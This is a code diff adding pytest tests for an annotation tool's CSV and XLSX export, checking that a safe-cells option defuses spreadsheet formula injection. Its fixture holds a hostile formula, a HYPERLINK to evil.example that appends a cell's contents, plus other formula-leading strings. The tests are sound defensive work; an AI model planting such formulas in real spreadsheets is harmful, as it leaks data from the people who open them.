@@ -203,3 +203,80 @@ def test_a_device_or_pipe_is_written_to_not_replaced(rubrica: Rubrica, judged: P
     reader.join(timeout=30)
     assert pipe.is_fifo()
     assert (tmp_path / "got").read_text().count("breve@1.0") == 6
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
+TEXTS = [FORMULA, "+1 good", "-2 is cold", "@home", "'=was quoted", "''-twice", "\tbegins with a tab", "-3.5", "plain"]
+ANSWERS = {"simplification": 2, "meaning": 3, "fluency": 3, "concern": "no", "acceptance": "accept", "needed": "yes"}
+
+
+@pytest.fixture
+def hostile(rubrica: Rubrica, tmp_path: Path) -> list[dict[str, object]]:
+    """A study named s whose items, annotator and answers begin like formulas; its records."""
+    rows = [[number, text, f"{text}."] for number, text in enumerate(TEXTS)]
+    with (tmp_path / "i.csv").open("w", newline="") as file:
+        csv.writer(file).writerows([["id", "source", "rewrite"], *rows])
+    rubrica("study", "new", "s", "--protocol", "breve", "--items", tmp_path / "i.csv", "--overlap", 1)
+    said = [
+        {"item": str(number), "annotator": "=ana", "answers": {**ANSWERS, "comment": text}}
+        for number, text in enumerate(TEXTS)
+    ]
+    (tmp_path / "said.jsonl").write_text("\n".join(map(json.dumps, said)))
+    assert rubrica("import", "s", tmp_path / "said.jsonl").code == 0
+    return _kept("s", rubrica, tmp_path)
+
+
+def _kept(study: str, rubrica: Rubrica, folder: Path) -> list[dict[str, object]]:
+    """What was said in a study, by whom, about which texts."""
+    file = folder / f"{study}.jsonl"
+    assert rubrica("export", study, "--format", "jsonl", "-o", file).code == 0
+    return [{key: one[key] for key in ("item", "fields", "annotator", "answers")} for one in lines(file)]
+
+
+def _rows(table: Path) -> list[dict[str, object]]:
+    """The rows of a table as another program reads them."""
+    if table.suffix == ".csv":
+        with table.open(newline="") as file:
+            return [dict(row) for row in csv.DictReader(file)]
+    import openpyxl
+
+    first, *rest = openpyxl.load_workbook(table).active.iter_rows(values_only=True)
+    return [dict(zip(map(str, first), row, strict=True)) for row in rest]
+
+
+@pytest.mark.parametrize("form", ["csv", "xlsx"])
+def test_safe_cells_are_no_formulas_and_come_back_as_they_were(
+    hostile: list[dict[str, object]], rubrica: Rubrica, tmp_path: Path, form: str
+) -> None:
+    """No text of a safe table begins like a formula, numbers stay, and a copy made of it has every text as it was."""
+    table = tmp_path / f"safe.{form}"
+    made = rubrica("export", "s", "--format", form, "--safe-cells", "-o", table, "--json")
+    assert "cells:safe" in made.json["signature"].split("|")
+    rows = _rows(table)
+    cells = [cell for row in rows for cell in row.values() if isinstance(cell, str)]
+    assert [cell for cell in cells if cell[:1] in tuple("=+-@\t\r") and cell != "-3.5"] == []
+    assert {row["source"] for row in rows} >= {f"'{FORMULA}", "'''-twice", "-3.5", "plain"}
+    assert {str(row["meaning"]) for row in rows} == {"3"}
+    rubrica("study", "new", "copy", "--protocol", "breve")
+    assert rubrica("import", "copy", table).code == 0
+    assert _kept("copy", rubrica, tmp_path) == hostile
+    assert rubrica("import", "s", table, "--json").json["read"] == {"judgements": 0, "revisions": 0, "unchanged": 9}
+
+
+def test_without_safe_cells_texts_are_as_they_are(
+    hostile: list[dict[str, object]], rubrica: Rubrica, tmp_path: Path
+) -> None:
+    """An apostrophe of somebody's own is not taken away from a table that was not made safe."""
+    table = tmp_path / "plain.csv"
+    rubrica("export", "s", "--format", "csv", "-o", table)
+    assert {row["source"] for row in _rows(table)} == set(TEXTS)
+    rubrica("study", "new", "copy", "--protocol", "breve")
+    assert rubrica("import", "copy", table).code == 0
+    assert _kept("copy", rubrica, tmp_path) == hostile
+
+
+def test_safe_cells_are_for_tables(judged: Path, rubrica: Rubrica, tmp_path: Path) -> None:
+    """Where no spreadsheet opens the file, asking for safe cells is a mistake, and it says which formats have them."""
+    refused = rubrica("export", "s", "--format", "jsonl", "--safe-cells", "-o", tmp_path / "out.jsonl")
+    assert (refused.code, "[safe_cells]" in refused.err, "csv, xlsx" in refused.err) == (1, True, True)
+    assert not (tmp_path / "out.jsonl").exists()
